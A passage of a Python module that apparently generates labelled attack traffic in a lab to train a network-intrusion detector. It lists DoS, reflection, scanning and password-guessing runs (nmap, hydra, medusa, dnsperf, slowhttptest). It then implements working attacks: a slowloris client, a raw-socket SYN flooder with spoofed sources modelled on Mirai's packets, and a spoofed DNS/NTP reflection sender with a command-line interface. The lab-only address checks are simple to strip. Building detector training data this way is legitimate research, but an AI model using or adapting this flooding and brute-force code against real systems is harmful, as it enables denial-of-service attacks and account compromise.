            target=_server("mqtt"),
        ),
        30,
        "few",
        "nping datagrams from one socket at 2,000/s (one long connection)",
        heldout=True,
    ),
    # Reflection: requests spoofed in a server's name go to the reflector (on the attacker subnet, so they never
    # cross the sensor); its answers flood the server's closed ports. Labelled udp_flood, not dns_flood: the
    # victim is no DNS server and receives answers it never asked for (datagrams to closed ports, ICMP port
    # unreachable back: udp_flood's concepts in rules/missions/dos.yaml); dns_flood is a query storm at a server.
    # labels.tsv names the reflector (hosts.tsv role "reflector"); see dataset/labelling.py for the rule.
    _v(
        "udp_flood",
        "hping3-dns-reflect-txt",
        "hping3",
        hping3_reflect("dns", 53, lambda lab: dns_reflection_query(lab, "TXT"), "web2", 10000, "u1000"),
        30,
        "many",
        "DNS reflection: spoofed TXT queries to an open dnsmasq, ~1,200-byte answers to apache2's host",
        label_source=reflector("dns"),
    ),
    _v(
        "udp_flood",
        "hping3-ntp-reflect",
        "hping3",
        hping3_reflect("ntp", 123, lambda _lab: ntp_client_request(), "mqtt", 15000, "u700"),
        30,
        "many",
        "NTP reflection: spoofed client requests to an open chronyd, its replies to the MQTT broker's host",
        label_source=reflector("ntp"),
    ),
    _v(
        "udp_flood",
        "nping-dns-reflect-any-port80",
        "nping",
        nping_reflect(
            reflector("dns"), 53, lambda lab: dns_reflection_query(lab, "ANY"), "web", 80, 10000, 800
        ),
        30,
        "few",
        "DNS reflection of ANY queries aimed at one port (:80 of nginx's host): one long stream of answers",
        heldout=True,
        label_source=reflector("dns"),
    ),
    # Reflection through many reflectors: real floods arrive from thousands of open servers, one or a few answers
    # each. The reflector answers from every address of the variant's own block of topology.REFLECTOR_NET, which
    # labels.tsv names (hosts.tsv lists the whole block as the reflector's). python3 is this module's sender;
    # the held-out nping walks its block in order, all from one victim port.
    _v(
        "udp_flood",
        "python-dns-reflect-txt-2k",
        "python3",
        python_reflect(
            "web2", 53, lambda lab: dns_reflection_query(lab, "TXT"), "dns-txt", 21, 0, 10000, 1000
        ),
        30,
        "many",
        "DNS reflection through 2,046 reflector addresses: ~1,200-byte TXT answers to apache2's host's ephemeral "
        "ports at 1,000/s, each reflector answering once before any answers twice",
        label_source=lambda _lab: reflector_block(21, 0),
    ),
    _v(
        "udp_flood",
        "python-ntp-reflect-1k",
        "python3",
        python_reflect("mqtt", 123, lambda _lab: ntp_client_request(), "ntp", 22, 2, 15000, 1500),
        30,
        "many",
        "NTP reflection through 1,022 reflector addresses: 48-byte replies to the MQTT broker's host at 1,500/s",
        label_source=lambda _lab: reflector_block(22, 2),
    ),
    _v(
        "udp_flood",
        "nping-dns-reflect-any-4k-port443",
        "nping",
        nping_reflect(
            lambda _lab: reflector_block(20, 1),
            53,
            lambda lab: dns_reflection_query(lab, "ANY"),
            "web",
            443,
            2,
            400,
            minimum=1,
        ),
        30,
        "many",
        "DNS reflection of ANY queries through the 4,096 addresses of a reflector block in turn, twice, at 400/s, "
        "aimed at one port (:443 of nginx's host): about two answers per reflector",
        heldout=True,
        label_source=lambda _lab: reflector_block(20, 1),
    ),
]

_DNS_AND_SLOW: list[Variant] = [
    # dnsperf keeps one socket per client (-c): few long connections with thousands of queries each.
    _v(
        "dns_flood",
        "dnsperf-existing-c4",
        "dnsperf",
        dnsperf("existing", "-c", "4", "-Q", "2000", queries=30000),
        30,
        "few",
        "dnsperf, 4 clients, mostly existing zone names at up to 2,000 q/s",
    ),
    _v(
        "dns_flood",
        "dnsperf-water-torture-c16",
        "dnsperf",
        dnsperf("nonexistent", "-c", "16", "-Q", "5000", "-q", "200", queries=40000),
        30,
        "few",
        "dnsperf, 16 clients, random non-existent names (water torture)",
    ),
    _v(
        "dns_flood",
        "dig-batch-nxdomain",
        "dig",
        dig_batch("nonexistent", queries=3000),
        60,
        "many",
        "dig batch of random non-existent names, one socket per query",
    ),
    _v(
        "dns_flood",
        "dig-batch-existing",
        "dig",
        dig_batch("existing", queries=8000),
        60,
        "many",
        "dig batch of names the zone holds (answers, not NXDOMAIN), one socket per query, back to back",
    ),
    _v(
        "dns_flood",
        "hping3-raw-query",
        "hping3",
        hping3_dns(count=20000),
        30,
        "many",
        "one crafted DNS query replayed by hping3 from incrementing source ports",
        heldout=True,
    ),
    # Slow HTTP: each slowhttptest connection is one long TCP connection; a run opens -c of them.
    _v(
        "slowloris",
        "slowhttptest-nginx-c600",
        "slowhttptest",
        slowhttptest("-H", lambda lab: f"http://{lab.servers['web']}/", 600, 10, 100, 45),
        60,
        "many",
        "slow headers to nginx, 200 connections, a header every 10 s",
    ),
    _v(
        "slowloris",
        "slowhttptest-apache-c400-i5",
        "slowhttptest",
        slowhttptest("-H", lambda lab: f"http://{lab.servers['web2']}/", 400, 5, 100, 45),
        60,
        "many",
        "slow headers to apache2, 150 connections, a header every 5 s",
    ),
    _v(
        "slowloris",
        "slowhttptest-https-c300",
        "slowhttptest",
        slowhttptest("-H", lambda lab: f"https://{lab.servers['web']}/", 300, 8, 50, 45),
        60,
        "many",
        "slow headers inside TLS to nginx :443, 100 connections",
    ),
    _v(
        "slowloris",
        "python-slowloris-apache",
        "python3",
        python_slowloris("web2", 80, 400, 4.0, 45),
        60,
        "many",
        "a slowloris of its own: partial GET, one X- header per socket every 4 s",
    ),
    _v(
        "slowloris",
        "slowhttptest-slow-body-login",
        "slowhttptest",
        slowhttptest("-B", lambda lab: f"http://{lab.servers['web']}:{lab.login_port}/login", 400, 5, 80, 45),
        60,
        "many",
        "slow POST body (R-U-Dead-Yet) to the login form",
        heldout=True,
    ),
]

_RECON: list[Variant] = [
    _v(
        "port_scan",
        "nmap-sS-T4-1024",
        "nmap",
        nmap("-sS", "-T4", "-Pn", ports=port_range(1024), targets=servers("web")),
        60,
        "many",
        "SYN scan of ports 1-1024, aggressive timing",
    ),
    _v(
        "port_scan",
        "nmap-sT-T3-top200",
        "nmap",
        nmap("-sT", "-T3", "-Pn", ports=top_ports(200), targets=servers("ssh")),
        60,
        "many",
        "connect() scan of the 200 most common ports, normal timing",
    ),
    _v(
        "port_scan",
        "nmap-sU-common",
        "nmap",
        nmap(
            "-sU",
            "-T4",
            "-Pn",
            ports=port_list("53,67-69,111,123,137,161,500,514,1900,5353,11211"),
            targets=servers("dns", "ntp"),
        ),
        60,
        "many",
        "UDP scan of common UDP services on two hosts",
    ),
    _v(
        "port_scan",
        "nmap-sX-T4-500",
        "nmap",
        nmap("-sX", "-T4", "-Pn", ports=port_range(500), targets=servers("ftp")),
        60,
        "many",
        "Xmas scan (FIN/PSH/URG) of ports 1-500",
    ),
    _v(
        "port_scan",
        "nmap-sF-T5-300",
        "nmap",
        nmap("-sF", "-T5", "-Pn", ports=port_range(300), targets=servers("web2")),
        60,
        "many",
        "FIN scan of ports 1-300, insane timing",
    ),
    _v(
        "port_scan",
        "nmap-sA-T4-web",
        "nmap",
        nmap("-sA", "-T4", "-Pn", ports=port_range(400), targets=servers("web", "mqtt")),
        60,
        "many",
        "ACK scan mapping filtering on two hosts",
    ),
    _v(
        "port_scan",
        "nmap-sS-T4-top100-all-servers",
        "nmap",
        nmap(
            "-sS",
            "-T4",
            "-Pn",
            ports=top_ports(100),
            targets=all_servers,
        ),
        90,
        "many",
        "SYN scan of the 100 most common ports across every server of the subnet (a horizontal sweep, as worms and "
        "internet-wide scanners do)",
    ),
    _v(
        "port_scan",
        "masscan-4hosts-1kpps",
        "masscan",
        masscan(ports=2000, rate=1000, wait=2),
        # 4 hosts x 2,000 ports at 1,000/s plus the 2 s wait: a tight bound cuts masscan's post-scan hang short.
        16,
        "many",
        "masscan's own TCP stack, one source port, four hosts at 1,000 probes/s",
        heldout=True,
    ),
    # OS detection: -O is the defining part; nmap is the only active OS fingerprinter in Debian, so the held-out
    # variant differs in technique around it (connect scan, UDP closed-port probe, many hosts) rather than tool.
    _v(
        "os_scan",
        "nmap-O-tries1-few-ports",
        "nmap",
        nmap("-O", "--max-os-tries", "1", "-Pn", ports=port_list("1,22,80,443"), targets=servers("web")),
        60,
        "many",
        "OS detection over an open and a closed port",
    ),
    _v(
        "os_scan",
        "nmap-O-guess-top1000",
        "nmap",
        nmap("-O", "--osscan-guess", "-T4", "-Pn", ports=top_ports(1000), targets=servers("ssh")),
        60,
        "many",
        "OS detection with guessing after nmap's default top-1000 port scan",
    ),
    _v(
        "os_scan",
        "nmap-O-tries2-T3",
        "nmap",
        nmap("-O", "--max-os-tries", "2", "-T3", "-Pn", ports=port_range(1000), targets=servers("ftp")),
        90,
        "many",
        "OS detection with two tries, normal timing",
    ),
    _v(
        "os_scan",
        "nmap-O-sV-light",
        "nmap",
        nmap(
            "-O",
            "-sV",
            "--version-light",
            "--max-os-tries",
            "1",
            "-Pn",
            ports=port_list("1,21,22,53,80"),
            targets=servers("dns"),
        ),
        90,
        "many",
        "OS detection combined with light service probing",
    ),
    _v(
        "os_scan",
        "nmap-O-T4-4hosts",
        "nmap",
        nmap(
            "-O",
            "--max-os-tries",
            "1",
            "-T4",
            "-Pn",
            ports=top_ports(100),
            targets=servers("web", "ssh", "ftp", "dns"),
        ),
        120,
        "many",
        "OS detection of four servers after a scan of their 100 most common ports",
    ),
    _v(
        "os_scan",
        "nmap-O-limit-multihost",
        "nmap",
        nmap(
            "-O",
            "--osscan-limit",
            "-T5",
            "--max-os-tries",
            "1",
            ports=top_ports(300),
            targets=servers("web2", "mqtt", "ntp"),
        ),
        90,
        "many",
        "OS detection across three hosts at insane timing, with host discovery",
        heldout=True,
    ),
    _v(
        "vulnerability_scan",
        "nmap-vuln-web",
        "nmap",
        nmap(
            "-sV",
            "--script",
            "vuln",
            "--script-timeout",
            "20s",
            "-Pn",
            ports=port_list("80,443,8080"),
            targets=servers("web"),
        ),
        90,
        "many",
        "the vuln script category against nginx",
    ),
    _v(
        "vulnerability_scan",
        "nmap-http-enum-apache",
        "nmap",
        nmap(
            "-sV",
            "--script",
            "http-enum,http-methods,http-headers",
            "--script-timeout",
            "30s",
            "-Pn",
            ports=port_list("80"),
            targets=servers("web2"),
        ),
        90,
        "many",
        "web content enumeration of apache2",
    ),
    # Version probing of one port: nmap's service probes over a handful of connections, no port scan around it.
    _v(
        "vulnerability_scan",
        "nmap-sV-port1883-mqtt",
        "nmap",
        nmap("-sV", "-Pn", ports=port_list("1883"), targets=servers("mqtt")),
        60,
        "many",
        "service/version probes of the MQTT broker's one port (no banner: probe after probe until one matches)",
    ),
    _v(
        "vulnerability_scan",
        "nmap-sV-port80-apache",
        "nmap",
        nmap("-sV", "-Pn", ports=port_list("80"), targets=servers("web2")),
        60,
        "many",
        "service/version probes of apache2's one port (HTTP GET/OPTIONS and the other probes)",
    ),
    _v(
        "vulnerability_scan",
        "nmap-sV-vuln-safe-all-servers",
        "nmap",
        nmap(
            "-sV",
            "--script",
            "vuln and safe",
            "-Pn",
            ports=top_ports(50),
            targets=all_servers,
        ),
        150,
        "many",
        "Version detection and the safe vulnerability scripts across every server of the subnet",
    ),
    _v(
        "vulnerability_scan",
        "nmap-ssh-ftp-audit",
        "nmap",
        nmap(
            "-sV",
            "--script",
            "ssh2-enum-algos,ssh-auth-methods,ftp-anon,ftp-syst",
            "-Pn",
            ports=port_list("21,22"),
            targets=servers("ssh", "ftp"),
        ),
        60,
        "many",
        "SSH algorithm and FTP anonymous-login audit",
    ),
    _v(
        "vulnerability_scan",
        "nmap-version-all",
        "nmap",
        nmap(
            "-sV",
            "--version-all",
            "--version-intensity",
            "9",
            "-T4",
            "-Pn",
            ports=port_list("21,22,53,80,443,1883,8080"),
            targets=servers("web", "mqtt"),
        ),
        90,
        "many",
        "exhaustive service-version probing",
    ),
    _v(
        "vulnerability_scan",
        "nmap-tls-audit",
        "nmap",
        nmap(
            "-sV",
            "--script",
            "ssl-enum-ciphers,ssl-cert,ssl-heartbleed,ssl-poodle,ssl-dh-params",
            "-Pn",
            ports=port_list("443"),
            targets=servers("web"),
        ),
        60,
        "many",
        "TLS configuration and known-TLS-bug probing",
        heldout=True,
    ),
    # Sweeps: every probed address is its own ICMP or TCP connection, so even a /24 gives hundreds.
    _v(
        "ping_sweep",
        "nmap-sn-PE",
        "nmap",
        nmap("-sn", "-PE", "--disable-arp-ping", ports=no_ports, targets=sweep),
        60,
        "many",
        "ICMP echo sweep of the server subnet",
    ),
    _v(
        "ping_sweep",
        "nmap-sn-PP-PM",
        "nmap",
        nmap("-sn", "-PP", "-PM", "--disable-arp-ping", "-T4", ports=no_ports, targets=sweep),
        60,
        "many",
        "ICMP timestamp and netmask sweep",
    ),
    _v(
        "ping_sweep",
        "nmap-sn-PS-PA",
        "nmap",
        nmap("-sn", "-PS22,80,443", "-PA80", "--disable-arp-ping", ports=no_ports, targets=sweep),
        60,
        "many",
        "TCP SYN/ACK ping sweep",
    ),
    _v(
        "ping_sweep",
        "nping-icmp-sweep",
        "nping",
        nping_sweep("--icmp", "--rate", "200"),
        60,
        "many",
        "nping echo to every address of the block, one each",
    ),
    _v(
        "ping_sweep",
        "fping-generate",
        "fping",
        fping(sweep),
        60,
        "many",
        "fping round-robin over the generated address list",
        heldout=True,
    ),
]

_BRUTEFORCE: list[Variant] = [
    _v(
        "dictionary_attack",
        "hydra-ssh-t4",
        "hydra",
        hydra("ssh", 4, 8, 60, lambda lab: [f"ssh://{lab.servers['ssh']}"]),
        120,
        "many",
        "hydra SSH, 4 tasks",
    ),
    _v(
        "dictionary_attack",
        "hydra-ftp-t16",
        "hydra",
        hydra("ftp", 16, 10, 120, lambda lab: [f"ftp://{lab.servers['ftp']}"]),
        120,
        "many",
        "hydra FTP, 16 tasks",
    ),
    _v(
        "dictionary_attack",
        "hydra-http-basic-t8",
        "hydra",
        hydra("http_basic", 8, 12, 160, lambda lab: [lab.servers["web"], "http-get", "/admin/"]),
        90,
        "many",
        "hydra HTTP basic auth on /admin/, 8 tasks",
    ),
    _v(
        "dictionary_attack",
        "hydra-http-form-t12",
        "hydra",
        hydra("http_form", 12, 12, 160, _http_form_module),
        90,
        "many",
        "hydra POSTing the /login form, 12 tasks",
    ),
    _v(
        "dictionary_attack",
        "medusa-ssh-t4",
        "medusa",
        medusa("ssh", "ssh", 4, 4, 30),
        120,
        "many",
        "medusa SSH, 4 parallel logins",
    ),
    _v(
        "dictionary_attack",
        "medusa-ftp-t6",
        "medusa",
        medusa("ftp", "ftp", 6, 10, 100),
        120,
        "many",
        "medusa FTP, 6 parallel logins",
    ),
    _v(
        "dictionary_attack",
        "patator-ftp-t8",
        "patator",
        patator_ftp(8, 10, 100),
        120,
        "many",
        "patator FTP, one connection per attempt, 8 threads",
    ),
    # Slow guessing: one task and waits, a few attempts a minute per source, as guessers that dodge rate limits do.
    _v(
        "dictionary_attack",
        "hydra-ftp-t1-c2",
        "hydra",
        hydra("ftp", 1, 3, 25, lambda lab: [f"ftp://{lab.servers['ftp']}"], pacing=("-c", "2")),
        150,
        "many",
        "hydra FTP, one task, one attempt every 2 s",
    ),
    _v(
        "dictionary_attack",
        "hydra-ssh-t1-W4",
        "hydra",
        hydra("ssh", 1, 3, 30, lambda lab: [f"ssh://{lab.servers['ssh']}"], pacing=("-W", "4")),
        150,
        "many",
        "hydra SSH, one task, 4 s between connections",
    ),
    _v(
        "dictionary_attack",
        "medusa-ftp-t1",
        "medusa",
        medusa("ftp", "ftp", 1, 4, 40),
        120,
        "many",
        "medusa FTP, one login at a time",
        heldout=True,
    ),
    # Telnet, mail and databases: the logins of the lab's other services. Telnet and dovecot delay every failed
    # login by about 2 s (dovecot more after many from one address), MariaDB and PostgreSQL answer at once.
    _v(
        "dictionary_attack",
        "hydra-telnet-t4",
        "hydra",
        hydra("telnet", 4, 6, 40, _url("telnet", "telnet")),
        90,
        "many",
        "hydra Telnet, 4 tasks, up to 3 guesses per connection (the login program's limit)",
    ),
    _v(
        "dictionary_attack",
        "hydra-pop3-t8",
        "hydra",
        # CLEAR: USER/PASS; given nothing, hydra 9.4 picks SASL LOGIN from the server's capabilities and fails.
        hydra("pop3", 8, 8, 80, _url("pop3", "mail", "/CLEAR")),
        90,
        "many",
        "hydra POP3 USER/PASS in clear text, 8 tasks",
    ),
    _v(
        "dictionary_attack",
        "hydra-imap-t8",
        "hydra",
        hydra("imap", 8, 8, 80, _url("imap", "mail")),
        90,
        "many",
        "hydra IMAP logins in clear text, 8 tasks",
    ),
    _v(
        "dictionary_attack",
        "hydra-mysql-t4",
        "hydra",
        hydra("mysql", 4, 8, 120, _url("mysql", "db")),
        90,
        "many",
        "hydra MariaDB, 4 tasks, one connection per guess",
    ),
    _v(
        "dictionary_attack",
        "hydra-postgres-t8",
        "hydra",
        hydra("postgres", 8, 8, 120, _url("postgres", "db")),
        90,
        "many",
        "hydra PostgreSQL (SCRAM), 8 tasks, one connection per guess",
    ),
    _v(
        "dictionary_attack",
        "hydra-postgres-t1-W3",
        "hydra",
        # -W paces the connections hydra opens itself; its MariaDB module ignores it (-c would pace that one).
        hydra("postgres", 1, 3, 25, _url("postgres", "db"), pacing=("-W", "3")),
        120,
        "many",
        "hydra PostgreSQL, one task, 3 s between connections",
    ),
    _v(
        "dictionary_attack",
        "medusa-postgres-t2",
        "medusa",
        medusa("postgres", "postgres", 2, 4, 40, host="db"),
        90,
        "many",
        "medusa PostgreSQL, 2 parallel logins",
        heldout=True,
    ),
    _v(
        "dictionary_attack",
        "ncrack-ssh-cl8",
        "ncrack",
        ncrack("ssh", "ssh", 8, 5, 40),
        120,
        "many",
        "ncrack SSH with its own timing engine",
        heldout=True,
        stop_signal="KILL",
    ),
    _v(
        "dictionary_attack",
        "patator-http-form-t6",
        "patator",
        patator_form(4, 12, 160),
        90,
        "few",
        "patator http_fuzz against the /login form over 4 keep-alive connections",
        heldout=True,
    ),
]

CATALOGUE: list[Variant] = [*_FLOODS, *_DNS_AND_SLOW, *_RECON, *_BRUTEFORCE]


def variant(name: str) -> Variant:
    """The catalogue entry called `name`; a KeyError lists the known names."""
    for entry in CATALOGUE:
        if entry.name == name:
            return entry
    raise KeyError(f"no attack variant {name!r}; known: {', '.join(v.name for v in CATALOGUE)}")


# ---------------------------------------------------------------------------------------------------------------
# A slowloris of its own (run as `python -m packetclip_training.lab.attacks slowloris HOST ...`)
# ---------------------------------------------------------------------------------------------------------------


def _open_partial_request(host: str, port: int, rng: random.Random) -> socket.socket | None:
    try:
        sock = socket.create_connection((host, port), timeout=3)
        request = f"GET /?{rng.randint(0, 99999)} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: slowclient\r\n"
        sock.sendall(request.encode())
        return sock
    except OSError as error:
        log.debug("slowloris: connect to %s:%d failed: %s", host, port, error)
        return None


def run_slowloris(host: str, port: int, connections: int, interval: float, seconds: float) -> dict[str, int]:
    """Hold up to `connections` requests open by sending one more header line per socket every `interval` s,
    reopening dropped ones, until `seconds` pass; returns counts of opened and dropped sockets."""
    ipaddress.IPv4Address(host)  # a lab address, never a name that could resolve elsewhere
    rng = random.Random()
    deadline = time.monotonic() + seconds
    open_sockets: list[socket.socket] = []
    counts = {"opened": 0, "dropped": 0, "headers": 0}
    try:
        while time.monotonic() < deadline:
            while len(open_sockets) < connections and time.monotonic() < deadline:
                sock = _open_partial_request(host, port, rng)
                if sock is None:
                    break
                open_sockets.append(sock)
                counts["opened"] += 1
            for sock in list(open_sockets):
                try:
                    sock.sendall(f"X-{_random_label(rng, 4)}: {_random_label(rng, 8)}\r\n".encode())
                    counts["headers"] += 1
                except OSError:
                    open_sockets.remove(sock)
                    sock.close()
                    counts["dropped"] += 1
            time.sleep(max(0.0, min(interval, deadline - time.monotonic())))
    finally:
        for sock in open_sockets:
            sock.close()
    return counts


# ---------------------------------------------------------------------------------------------------------------
# A spoofing SYN flooder of its own (run as `python -m packetclip_training.lab.attacks synflood HOST ...`)
# ---------------------------------------------------------------------------------------------------------------

# The window sizes of common stacks; one per spoofed source, as each bot runs one OS.
_SYN_WINDOWS = (64240, 65535, 29200, 14600, 8192, 5840)


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_packet(
    src: bytes, dst: bytes, sport: int, dport: int, seq: int, ttl: int, ip_id: int, window: int, tsval: int
) -> bytes:
    """An IPv4 TCP SYN with Linux's options (MSS 1460, SACK permitted, timestamps, NOP, window scale 7), the set
    bots' SYN floods copy (Mirai sends these five) unlike hping3's and t50's bare SYNs. The kernel fills in the IP
    checksum (IP_HDRINCL); the TCP checksum is computed here."""
    options = b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + struct.pack("!II", tsval, 0) + b"\x01\x03\x03\x07"
    header = struct.pack(
        "!HHIIBBHHH", sport, dport, seq, 0, (20 + len(options)) // 4 << 4, 0x02, window, 0, 0
    )
    segment = header + options
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", _checksum(pseudo + segment)) + segment[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), ip_id, 0x4000, ttl, socket.IPPROTO_TCP, 0, src, dst
    )
    return ip + segment


def _ttl_range(text: str) -> tuple[int, int]:
    low, _, high = text.partition("-")
    return int(low), int(high or low)


def run_synflood(
    host: str, dport: int | None, source_net: str, count: int, rate: float, seconds: float, ttl: str = "64"
) -> dict[str, int]:
    """Send up to `count` SYNs to `host` at `rate` per second for at most `seconds`, each from a random address of
    `source_net` (which must lie in the lab's spoof block) and a random source port; `dport` None picks a random
    destination port per SYN. Returns how many were sent and from how many sources."""
    target = ipaddress.IPv4Address(host)
    if not is_lab_address(str(target)) or target in SPOOF_NET:
        raise ValueError(f"target {host} is not a lab host")
    network = ipaddress.IPv4Network(source_net)
    if not network.subnet_of(SPOOF_NET) or network.num_addresses < 4:
        raise ValueError(f"source block {source_net} is not inside the lab's spoof block {SPOOF_NET}")
    low_ttl, high_ttl = _ttl_range(ttl)
    rng = random.Random()
    first, span = int(network.network_address) + 1, network.num_addresses - 2  # no network/broadcast address
    dst = target.packed
    sources: set[int] = set()

    def packets() -> Iterator[tuple[bytes, str]]:
        while True:
            address = first + rng.randrange(span)
            sources.add(address)
            per_source = random.Random(address)  # a bot keeps its TTL and window from SYN to SYN
            packet = syn_packet(
                address.to_bytes(4, "big"),
                dst,
                rng.randrange(1024, 65536),
                rng.randrange(1, 65536) if dport is None else dport,
                rng.getrandbits(32),
                per_source.randint(low_ttl, high_ttl),
                rng.getrandbits(16),
                per_source.choice(_SYN_WINDOWS),
                rng.getrandbits(32),
            )
            yield packet, host

    sent = send_paced(packets(), count, rate, seconds)
    return {"sent": sent, "sources": len(sources)}


def send_paced(packets: Iterator[tuple[bytes, str]], count: int, rate: float, seconds: float) -> int:
    """Send up to `count` of the (IPv4 packet with its own header, destination) pairs through a raw socket at
    `rate` per second for at most `seconds`; returns how many went out."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    deadline = start + seconds
    sent = 0
    try:
        while sent < count and time.monotonic() < deadline:
            packet, destination = next(packets)
            sock.sendto(packet, (destination, 0))
            sent += 1
            # Paced in ~2 ms steps: finer sleeps cost more CPU than they buy in evenness.
            ahead = start + sent / rate - time.monotonic()
            if ahead > 0.002:
                time.sleep(ahead)
    finally:
        sock.close()
    return sent


# ---------------------------------------------------------------------------------------------------------------
# A reflection sender of its own (run as `python -m packetclip_training.lab.attacks reflect VICTIM ...`)
# ---------------------------------------------------------------------------------------------------------------

# Linux's default ephemeral port range (net.ipv4.ip_local_port_range): the ports a victim's own queries would use.
_EPHEMERAL_PORTS = (32768, 61000)
# The largest request that fits one datagram on the lab's 1,500-byte links.
_MAX_REQUEST = 1500 - 20 - 8


def udp_packet(src: bytes, dst: bytes, sport: int, dport: int, payload: bytes, ttl: int, ip_id: int) -> bytes:
    """An IPv4 UDP datagram with its UDP checksum; the kernel fills in the IP checksum (IP_HDRINCL)."""
    length = 8 + len(payload)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, length)
    checksum = _checksum(pseudo + struct.pack("!HHHH", sport, dport, length, 0) + payload) or 0xFFFF
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + length, ip_id, 0x4000, ttl, socket.IPPROTO_UDP, 0, src, dst
    )
    return ip + struct.pack("!HHHH", sport, dport, length, checksum) + payload


def run_reflect(
    victim: str, payload: bytes, dport: int, reflector_net: str, count: int, rate: float, seconds: float
) -> dict[str, int]:
    """Send up to `count` copies of the request `payload` at `rate` per second for at most `seconds`, each in the
    name of `victim` (a lab host) from a random ephemeral port, to port `dport` of the next address of
    `reflector_net` (inside the lab's reflector block): every address once, in a random order, before any twice,
    as a list of reflectors is used. Returns how many were sent and to how many reflectors."""
    target = ipaddress.IPv4Address(victim)
    if not any(target in net for net in LAB_NETS):
        raise ValueError(f"victim {victim} is not a lab host")
    network = ipaddress.IPv4Network(reflector_net)
    if not network.subnet_of(REFLECTOR_NET) or network.num_addresses < 4:
        raise ValueError(
            f"reflector block {reflector_net} is not inside the lab's reflector block {REFLECTOR_NET}"
        )
    if not 0 < len(payload) <= _MAX_REQUEST or not 0 < dport < 65536:
        raise ValueError(f"a request of {len(payload)} bytes to port {dport} is no single UDP datagram")
    rng = random.Random()
    reflectors = list(network.hosts())
    rng.shuffle(reflectors)
    src = target.packed

    def packets() -> Iterator[tuple[bytes, str]]:
        for sent in itertools.count():
            reflector = reflectors[sent % len(reflectors)]
            packet = udp_packet(
                src,
                reflector.packed,
                rng.randrange(*_EPHEMERAL_PORTS),
                dport,
                payload,
                64,
                rng.getrandbits(16),
            )
            yield packet, str(reflector)

    sent = send_paced(packets(), count, rate, seconds)
    return {"sent": sent, "reflectors": min(sent, len(reflectors))}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m packetclip_training.lab.attacks")
    commands = parser.add_subparsers(dest="command", required=True)
    slow = commands.add_parser("slowloris", help="hold HTTP requests open with slowly sent headers")
    slow.add_argument("host", help="IPv4 address of the web server")
    slow.add_argument("--port", type=int, default=80)
    slow.add_argument("--connections", type=int, default=100)
    slow.add_argument("--interval", type=float, default=10.0, help="seconds between header lines per socket")
    slow.add_argument("--seconds", type=float, default=30.0, help="length of the attack")
    syn = commands.add_parser(
        "synflood", help="SYNs from random addresses of a block of the lab's spoof range"
    )
    syn.add_argument("host", help="IPv4 address of the victim")
    syn.add_argument("--dport", default="80", help="destination port, or 'random' for one per SYN")
    syn.add_argument("--source-net", required=True, help=f"CIDR inside {SPOOF_NET} to draw sources from")
    syn.add_argument("--count", type=int, default=1000, help="SYNs to send at most")
    syn.add_argument("--rate", type=float, default=1000.0, help="SYNs per second")
    syn.add_argument("--ttl", default="64", help="TTL, or LOW-HIGH for one per source")
    syn.add_argument("--seconds", type=float, default=30.0, help="length of the flood at most")
    reflect = commands.add_parser(
        "reflect", help="requests in a victim's name to the addresses of a block of the lab's reflector range"
    )
    reflect.add_argument("victim", help="IPv4 address of the victim (the spoofed source)")
    reflect.add_argument("--payload", type=Path, required=True, help="file holding one request")
    reflect.add_argument("--dport", type=int, required=True, help="the reflectors' service port")
    reflect.add_argument(
        "--reflector-net", required=True, help=f"CIDR inside {REFLECTOR_NET}: the reflectors"
    )
    reflect.add_argument("--count", type=int, default=1000, help="requests to send at most")
    reflect.add_argument("--rate", type=float, default=1000.0, help="requests per second")
    reflect.add_argument("--seconds", type=float, default=30.0, help="length of the flood at most")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    if args.command == "reflect":
        counts = run_reflect(
            args.victim,
            args.payload.read_bytes(),
            args.dport,
            args.reflector_net,
            args.count,
            args.rate,
            args.seconds,
        )
        log.info("reflect %s: %s", args.victim, counts)
        return 0 if counts["sent"] else 1
    if args.command == "synflood":
        dport = None if args.dport == "random" else int(args.dport)
        counts = run_synflood(
            args.host, dport, args.source_net, args.count, args.rate, args.seconds, args.ttl
        )
        log.info("synflood %s: %s", args.host, counts)
        return 0 if counts["sent"] else 1
    counts = run_slowloris(args.host, args.port, args.connections, args.interval, args.seconds)
    log.info("slowloris %s:%d: %s", args.host, args.port, counts)
    return 0 if counts["opened"] else 1


if __name__ == "__main__":
    raise SystemExit(main())
